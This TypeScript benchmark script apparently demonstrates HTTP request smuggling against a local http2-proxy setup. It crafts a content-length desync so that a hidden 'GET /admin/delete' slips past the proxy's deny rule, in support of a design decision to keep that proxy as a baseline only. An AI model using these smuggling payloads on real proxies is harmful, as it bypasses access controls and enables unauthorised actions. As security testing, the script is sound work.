// node bench/attacks/http2-proxy-smuggling.ts: shows live why http2-proxy is a bench baseline and nothing more.
// A client with a valid certificate, whose requests to /admin the inbound proxy refuses, reaches /admin/delete.
// Exit status 0: shown as docs/decisions/0002-http2-proxy-as-baseline-only.md says; 1: it did not work.
import { once } from 'node:events'
import { mkdtempSync, readFileSync, rmSync } from 'node:fs'
import { createServer } from 'node:http'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { connect, type TLSSocket } from 'node:tls'
import { setTimeout as delay } from 'node:timers/promises'
import { type Certificates, makeCertificates } from '../certificates.ts'
import { startNodePair } from '../subjects/node-pair.ts'

const DENIED = '/admin'
const TARGET = `${DENIED}/delete`
const READY_ATTEMPTS = 100

/** What the upstream must swallow as a body, so that the next thing it reads as a request is ours. */
const swallowed = 'GET /b HTTP/1.1\r\nfoo: '
const honest = `GET ${TARGET} HTTP/1.1\r\nhost: app\r\n\r\n`
const first = `GET /a HTTP/1.1\r\nhost: app\r\ncontent-length: ${swallowed.length}\r\n\r\n${'.'.repeat(swallowed.length)}`
const second = `${swallowed}GET ${TARGET} HTTP/1.1\r\nhost: app\r\n\r\n`

async function open({ ca, client }: Certificates, port: number): Promise<TLSSocket> {
  const [caPem, cert, key] = [ca, client.certificate, client.key].map((file) => readFileSync(file))
  const socket = connect({ host: '127.0.0.1', port, ca: caPem, cert, key, servername: 'app' })
  await once(socket, 'secureConnect')
  return socket
}

/** The proxy prints nothing when it is up: connects until that works. */
async function openWhenReady(certificates: Certificates, port: number): Promise<TLSSocket> {
  for (let attempt = 1; ; attempt += 1) {
    try {
      return await open(certificates, port)
    } catch (error) {
      if (attempt === READY_ATTEMPTS) throw error
      await delay(50)
    }
  }
}

/** Sends one request and returns the status line of the answer. */
async function exchange(socket: TLSSocket, request: string): Promise<string> {
  socket.write(request)
  const [answer]: Buffer[] = await once(socket, 'data', { signal: AbortSignal.timeout(5000) })
  return answer?.toString('latin1').split('\r\n')[0] ?? ''
}

await using ends = new AsyncDisposableStack()
const folder = mkdtempSync(join(tmpdir(), 'outrider-attack-'))
ends.defer(() => rmSync(folder, { recursive: true, force: true }))
const served: string[] = []
const app = createServer((request, response) => {
  served.push(`${request.method} ${request.url}`)
  response.end('ok')
}).listen(0, '127.0.0.1')
ends.defer(() => app.close().closeAllConnections())
await once(app, 'listening')
const address = app.address()
if (address === null || typeof address === 'string') throw new Error('the application has no port')

const signal = AbortSignal.timeout(60_000)
const certificates = await makeCertificates(join(folder, 'certificates'), signal)
const running = await startNodePair('http2-proxy.ts', certificates, address.port, ['--deny', DENIED])
ends.defer(() => running.stop())

const socket = await openWhenReady(certificates, running.inPort)
ends.defer(() => void socket.destroy())
console.log(`honest GET ${TARGET}: ${await exchange(socket, honest)}`)
console.log(`GET /a, content-length ${swallowed.length} and that many bytes: ${await exchange(socket, first)}`)
console.log(`GET /b with the header "foo: GET ${TARGET} HTTP/1.1": ${await exchange(socket, second)}`)
console.log(`the application served: ${served.join(', ')}`)
const reached = served.includes(`GET ${TARGET}`)
console.log(reached ? `smuggled: GET ${TARGET} was served` : 'not smuggled')
process.exitCode = reached ? 0 : 1
